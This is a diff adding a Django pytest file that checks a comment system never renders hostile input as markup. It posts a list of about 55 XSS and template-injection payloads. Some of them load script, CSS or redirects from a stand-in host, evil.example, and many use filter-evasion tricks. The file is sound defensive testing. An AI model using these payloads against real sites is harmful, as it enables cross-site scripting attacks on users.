@@ -1,0 +1,96 @@
+"""No comment name or text, however hostile, is ever rendered as markup."""
+
+import pytest
+from django.test import Client
+
+from comments.models import Comment
+from tests.factories import ArticleFactory
+from tests.test_comments import started
+from tests.test_hostile_input import assert_no_injected_markup
+
+pytestmark = pytest.mark.django_db
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror="alert(1)">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href=javascript:alert(1)>x</a>",
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "vbscript:msgbox(1)",
+    '<div style="background:url(javascript:alert(1))">',
+    "<style>@import 'http://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=http://evil.example/x.css>",
+    "<meta http-equiv=refresh content=0;url=http://evil.example>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<form action=http://evil.example><input type=submit>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<<script>script>alert(1)<</script>/script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=`x`onerror=alert(1)>",
+    "<img/src/onerror=alert(1)>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "<!--<script>alert(1)//-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth angle brackets
+    "\u202e<script>alert(1)</script>",  # right-to-left override
+    "<scr\u200bipt>alert(1)</script>",  # zero-width space
+    "<img src=x onerror=\u0061lert(1)>",
+    'http://example.org/"onmouseover="alert(1)',
+    "https://example.org/<script>alert(1)</script>",
+    "www.example.org/'onclick='alert(1)",
+    "http://example.org/?q=<img src=x onerror=alert(1)>",
+    "[click](javascript:alert(1))",
+    "{{ 7|add:7 }}{% load static %}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    '<a href="https://example.org" target=_blank>x</a>',
+    "<base href=http://evil.example/>",
+    "<template><script>alert(1)</script></template>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+]
+
+
+def test_the_corpus_is_big_enough():
+    assert len(PAYLOADS) >= 50
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_hostile_name_and_text_are_shown_as_text(payload):
+    article = ArticleFactory()
+    response = Client(REMOTE_ADDR=f"10.2.{len(payload) % 250}.{hash(payload) % 250}").post(
+        f"/comments/article/{article.slug}/",
+        {
+            "text": f"Before {payload} after",
+            "name": payload[:60],
+            "email": "x@example.com",
+            "started": started(),
+        },
+    )
+    assert response.status_code == 302, response.content[:500]
+    comment = Comment.objects.get()
+    comment.status = Comment.Status.APPROVED  # as if a moderator let it through
+    comment.save()
+    for url in [article.get_absolute_url(), "/", f"/comments/article/{article.slug}/reply/{comment.pk}/"]:
+        html = Client().get(url).content.decode()
+        assert_no_injected_markup(html)
+    page = Client().get(article.get_absolute_url()).content.decode()
+    assert "Before " in page and " after" in page
